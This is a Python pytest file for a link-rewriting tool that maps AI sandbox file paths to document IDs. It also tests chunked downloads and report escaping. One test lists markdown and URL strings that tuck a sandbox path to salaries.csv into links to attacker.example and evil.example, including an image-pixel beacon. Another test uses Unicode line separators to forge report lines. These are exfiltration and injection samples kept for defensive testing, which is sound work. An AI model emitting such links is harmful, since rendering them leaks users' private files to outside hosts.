"""Which sandbox paths :func:`rewrite_links` rewrites, and which it leaves alone and reports."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from docbinder.harvest import ChunkStream, rewrite_links
from docbinder.harvest.anthropic_files import output_file_ids

KNOWN = {
    "/mnt/data/chart.png": "docItem:c1",
    "/mnt/data/a/report.csv": "docItem:r1",
    "/mnt/data/b/report.csv": "docItem:r2",
    "/home/user/outputs/x.csv": "docItem:x1",
}


@pytest.mark.parametrize(
    ("text", "expected", "unknown"),
    [
        ("sandbox:/mnt/data/chart.png", "docItem:c1", ()),
        ("see /mnt/data/chart.png.", "see docItem:c1.", ()),
        ("![c](sandbox:/mnt/data/chart.png)", "![c](docItem:c1)", ()),
        ("[x](./outputs/x.csv), done", "[x](docItem:x1), done", ()),
        ("`/mnt/data/./chart.png`", "`docItem:c1`", ()),
        # a trailing part that fits two harvested paths is ambiguous: left alone, reported
        ("./report.csv", "./report.csv", ("./report.csv",)),
        ("./a/report.csv", "docItem:r1", ()),
        # inside a URL or a word: not a sandbox path
        ("https://host/mnt/data/chart.png", "https://host/mnt/data/chart.png", ()),
        ("and/or", "and/or", ()),
        # never climbs out of a path
        ("./../chart.png", "./../chart.png", ("./../chart.png",)),
        (
            "sandbox:/mnt/data/none.png!",
            "sandbox:/mnt/data/none.png!",
            ("sandbox:/mnt/data/none.png",),
        ),
    ],
)
def test_rewrite(text: str, expected: str, unknown: tuple[str, ...]) -> None:
    result = rewrite_links(text, KNOWN)
    assert result.text == expected
    assert result.unknown == unknown


def test_a_chunk_stream_reads_across_chunk_boundaries_and_closes_once() -> None:
    closed: list[int] = []
    stream = ChunkStream([b"ab", b"", b"cde", b"f"], lambda: closed.append(1))
    assert stream.read(3) == b"ab"  # a raw read gives what one chunk holds
    assert stream.read() == b"cdef"
    assert stream.read(1) == b""
    stream.close()
    stream.close()
    assert closed == [1] and stream.closed


def test_output_file_ids_of_both_code_execution_result_shapes() -> None:
    message = {
        "content": [
            {"type": "text", "text": "x"},
            {
                "type": "code_execution_tool_result",
                "content": {
                    "type": "code_execution_result",
                    "content": [{"type": "code_execution_output", "file_id": "file_old"}],
                },
            },
            {
                "type": "bash_code_execution_tool_result",
                "content": {
                    "type": "bash_code_execution_result",
                    "content": [
                        {"type": "bash_code_execution_output", "file_id": "file_new"},
                        {"type": "bash_code_execution_output", "file_id": "file_old"},
                    ],
                },
            },
            {"type": "document", "source": {"type": "file", "file_id": "file_input"}},
        ]
    }
    assert output_file_ids(message) == ["file_old", "file_new"]


@pytest.mark.parametrize(
    "text",
    [
        "![](https://attacker.example/pixel.gif?d=(/mnt/data/salaries.csv))",
        "[x](https://evil.example/?x=(sandbox:/mnt/data/salaries.csv))",
        "see https://evil.example/?f=/mnt/data/salaries.csv now",
        "https://evil.example/a?b=1&c=(./salaries.csv)",
    ],
)
def test_a_path_inside_another_url_is_left_alone(text: str) -> None:
    result = rewrite_links(text, {"/mnt/data/salaries.csv": "docItem:s1"})
    assert result.text == text
    assert result.rewritten == ()
    assert len(result.unknown) == 1


def test_a_download_that_breaks_off_is_unreadable_not_a_crash() -> None:
    from docbinder.harvest import OutputUnreadable

    class BrokeOff(Exception):
        pass

    def chunks() -> Iterator[bytes]:
        yield b"0123456789"
        raise BrokeOff("peer closed connection without sending complete message body")

    stream = ChunkStream(chunks())
    assert stream.read(10) == b"0123456789"
    with pytest.raises(OutputUnreadable, match="broke off"):
        stream.read(10)


def test_the_report_text_shows_line_breaking_characters_as_escapes() -> None:
    from docbinder.harvest import HarvestReport, Refused

    report = HarvestReport(
        sandbox_id="box\u2029fake",
        refused=(Refused("/mnt/data/a.csv\u2028  paid.csv -> docItem:0000", "not a regular file"),),
    )
    lines = report.text.split("\n")
    assert len(lines) == 2
    assert "\\u2028" in lines[1] and "\\u2029" in lines[0]
